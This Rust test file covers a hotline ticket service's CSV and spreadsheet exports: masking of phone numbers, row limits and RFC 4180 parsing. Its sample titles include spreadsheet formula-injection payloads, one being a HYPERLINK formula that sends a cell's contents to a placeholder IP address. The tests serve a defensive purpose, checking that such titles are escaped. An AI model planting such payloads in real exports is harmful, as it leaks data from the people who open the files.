//! Files that leave the service, read back by readers that share no code with what wrote them.

use std::fs::File;
use std::io::BufReader;

use calamine::{Data, Range, Reader, Xlsx};
use chrono::TimeDelta;
use hotline::city::City;
use hotline::clock::beijing_day;
use hotline::report::{
    Cell, CsvTickets, MAX_ROWS, Period, Sheet, SheetError, TICKET_COLUMNS, Table, csv, table, tickets_as_sheet,
};
use hotline::store::{Dimension, Order, ReportQuery, TicketFilter, TicketOrder};
use hotline::ticket::{Actor, Command, Edit, Number, Side};

use crate::fixture::{Fixture, morning, on_each_database, phone, ticket};

on_each_database!(
    a_list_of_tickets_survives_csv,
    a_list_of_tickets_survives_a_sheet,
    a_list_that_a_sheet_cannot_hold_is_refused,
    a_long_list_has_every_ticket_once,
    a_report_survives_both,
);

/// Titles that a spreadsheet would compute, tear apart or lose.
const TITLES: [&str; 5] =
    ["=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"路灯\")", "+1, \"两\"\t个", "བོད་ལྗོངས་ཀྱི་ལམ་སྒྲོན།", "@SUM(A1:A9)", "-2+3"];

async fn a_list_of_tickets_survives_csv(fixture: Fixture) {
    let numbers = tickets(&fixture).await;
    let text = csv_of(&fixture).await;
    let text = text.strip_prefix('\u{feff}').expect("a byte order mark");
    let rows = read(text);
    assert_eq!(rows[0], TICKET_COLUMNS.map(|column| column.name));
    let column = |name: &str| rows[0].iter().position(|head| head == name).expect("a column");
    assert_eq!(rows.len(), TITLES.len() + 1);
    for (at, row) in rows[1..].iter().rev().enumerate() {
        assert_eq!(row.len(), TICKET_COLUMNS.len());
        assert_eq!(row[column("number")], numbers[at].to_string());
        let title = if at == 2 { TITLES[2].to_owned() } else { format!("'{}", TITLES[at]) };
        assert_eq!(row[column("title")], title);
        assert_eq!(row[column("created_at")], format!("2026-11-22 10:00:0{at}"));
        let phone = if at == 4 { String::new() } else { format!("138****000{at}") };
        assert_eq!(row[column("phone")], phone, "the last requester is shielded");
        assert_eq!((row[column("state")].as_str(), row[column("class")].as_str()), ("received", "0101"));
    }
    for number in 0..5 {
        assert!(!text.contains(phone(number).digits()), "no number is whole");
    }
}

async fn a_list_of_tickets_survives_a_sheet(fixture: Fixture) {
    let numbers = tickets(&fixture).await;
    let (store, folder) = (&fixture.store, fixture.folder.path());
    let file = tickets_as_sheet(store, &TicketFilter::default(), folder, MAX_ROWS).await.expect("a sheet");
    let range = opened(file);
    assert_eq!(range.height(), TITLES.len() + 1);
    for (at, column) in TICKET_COLUMNS.iter().enumerate() {
        assert_eq!(range[(0, at)], Data::String(column.zh.to_owned()));
    }
    let column = |name: &str| TICKET_COLUMNS.iter().position(|column| column.name == name).expect("a column");
    for at in 0..TITLES.len() {
        let row = TITLES.len() - at;
        assert_eq!(range[(row, column("number"))], Data::String(numbers[at].to_string()));
        assert_eq!(range[(row, column("title"))], Data::String(TITLES[at].to_owned()), "a text, never a formula");
        assert_eq!(range[(row, column("round"))], Data::Float(1.0));
    }
    let names = std::fs::read_dir(folder).expect("the folder").map(|entry| entry.expect("an entry").file_name());
    let left: Vec<_> = names.filter(|name| name.to_string_lossy().contains("export")).collect();
    assert!(left.is_empty(), "{left:?}");
}

async fn a_list_that_a_sheet_cannot_hold_is_refused(fixture: Fixture) {
    tickets(&fixture).await;
    let (store, folder, all) = (&fixture.store, fixture.folder.path(), TicketFilter::default());
    assert!(tickets_as_sheet(store, &all, folder, 5).await.is_ok());
    let refused = tickets_as_sheet(store, &all, folder, 4).await.expect_err("five tickets");
    assert_eq!(refused.to_string(), "a sheet holds at most 4 rows: narrow the period, or take CSV");
    let later = TicketFilter { from: Some(morning() + TimeDelta::seconds(3)), ..TicketFilter::default() };
    assert!(tickets_as_sheet(store, &later, folder, 4).await.is_ok());
    assert_eq!(store.count_tickets(&later, TicketOrder::Created, 10).await.expect("counted").tickets, 2);
}

async fn a_long_list_has_every_ticket_once(fixture: Fixture) {
    let day = beijing_day(morning());
    let numbers: Vec<Number> =
        (1..=1_203).map(|sequence| Number::new(City::Lhasa, day, sequence).expect("a number")).collect();
    // many are of one moment: the cursor has to tell them apart
    let rows: Vec<String> = numbers
        .iter()
        .map(|number| {
            let second = number.sequence() % 7;
            format!(
                "('{number}', 'lhasa', 'paper', '2026-11-22T02:00:0{second}+00:00', '{day}', 'bo', 'citizen', false, \
                 'normal', true, 'received')"
            )
        })
        .collect();
    let insert = "insert into ticket (number, city, channel, created_at, created_day, language, requester, confidential, \
         urgency, confirmed, state) values ";
    fixture.execute(&format!("{insert}{}", rows.join(", "))).await;
    let text = csv_of(&fixture).await;
    let mut listed: Vec<Number> =
        read(text.trim_start_matches('\u{feff}'))[1..].iter().map(|row| row[0].parse().expect("a number")).collect();
    listed.sort();
    assert_eq!(listed, numbers);
    let file = tickets_as_sheet(&fixture.store, &TicketFilter::default(), fixture.folder.path(), MAX_ROWS).await;
    assert_eq!(opened(file.expect("a sheet")).height(), 1_204);
    for (most, counted) in [(MAX_ROWS, 1_203), (7, 7)] {
        let count = fixture.store.count_tickets(&TicketFilter::default(), TicketOrder::Created, most).await;
        assert_eq!(count.expect("counted").tickets, counted);
    }
}

async fn a_report_survives_both(fixture: Fixture) {
    tickets(&fixture).await;
    let today = beijing_day(morning());
    let period: Period = "2026-11".parse().expect("a month");
    let query = ReportQuery {
        dimension: Dimension::Class,
        from: period.from(),
        to: period.to(),
        cities: Vec::new(),
        unit: None,
        event: None,
        today,
    };
    let previous = period.previous().expect("a month before");
    let made = table(&fixture.store, &query, period, Some(previous)).await.expect("a table");
    let lines: String = made.grid().map(|cells| csv::line(&cells)).collect();
    let rows = read(&lines);
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0][..5], ["0101", &rows[0][1], &rows[0][2], "no", "5"]);
    assert!(rows[0][2].starts_with(|letter| ('\u{f00}'..'\u{1000}').contains(&letter)), "{:?}", rows[0]);
    assert_eq!(rows[1][..5], ["", "合计", "བསྡོམས་འབོར།", "no", "5"]);
    let mut sheet = Sheet::new(fixture.folder.path(), Table::columns()).expect("a sheet");
    made.grid().for_each(|cells| sheet.append(&cells).expect("appended"));
    let range = opened(sheet.finish().expect("a file"));
    assert_eq!((range.height(), &range[(1, 0)], &range[(1, 4)]), (3, &Data::String("0101".into()), &Data::Float(5.0)));
    assert_eq!(made.total.before.as_ref().map(|counts| counts.is_ranked()), Some(false));
}

#[test]
fn a_sheet_is_full_after_its_last_row() {
    let mut sheet = Sheet::new(&std::env::temp_dir(), &[]).expect("a sheet");
    for _ in 0..MAX_ROWS {
        sheet.append(&[Cell::Nothing]).expect("room for it");
    }
    assert!(matches!(sheet.append(&[Cell::Nothing]), Err(SheetError::TooManyRows { most: MAX_ROWS })));
}

#[test]
fn a_folder_that_is_not_there_makes_no_sheet() {
    let folder = std::env::temp_dir().join("hotline-no-such-folder");
    assert!(matches!(Sheet::new(&folder, &TICKET_COLUMNS), Err(SheetError::File(_))));
}

async fn csv_of(fixture: &Fixture) -> String {
    let (mut export, mut text) = (CsvTickets::new(&fixture.store, TicketFilter::default()), String::new());
    while let Some(lines) = export.next().await.expect("lines") {
        text.push_str(&lines);
    }
    text
}

fn opened(file: File) -> Range<Data> {
    let mut book: Xlsx<_> = Xlsx::new(BufReader::new(file)).expect("a workbook");
    let name = book.sheet_names()[0].clone();
    assert!(book.worksheet_formula(&name).expect("formulas").is_empty());
    book.worksheet_range(&name).expect("a sheet")
}

/// RFC 4180, and nothing else.
fn read(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut field, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut letters = text.chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => field.extend(letters.next()),
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut field)),
            '\r' if !quoted => {
                assert_eq!(letters.next(), Some('\n'), "a line ends with CR LF");
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            letter => field.push(letter),
        }
    }
    assert!(row.is_empty() && field.is_empty() && !quoted, "the last line is whole");
    rows
}

/// One ticket a title; the last requester is shielded.
async fn tickets(fixture: &Fixture) -> Vec<Number> {
    let mut numbers = Vec::new();
    for (at, title) in (0..).zip(TITLES) {
        let number = submit(fixture, at).await;
        let edit = Edit {
            title: Some(title.parse().expect("a title")),
            class: Some("0101".parse().expect("a class")),
            confidential: Some(at == 4),
            ..Edit::default()
        };
        let command = Command::Edit(Box::new(edit));
        let (actor, side) = (Actor::Operator, Side::Hotline);
        let order = Order { number, version: None, command, actor, side, address: None };
        fixture.store.execute(&order, morning()).await.expect("edited");
        numbers.push(number);
    }
    numbers
}

async fn submit(fixture: &Fixture, number: u32) -> Number {
    let call = fixture.call(number).await;
    let at = morning() + TimeDelta::seconds(number.into());
    fixture.store.submit_ticket(&ticket(&call), at).await.expect("submitted").number
}
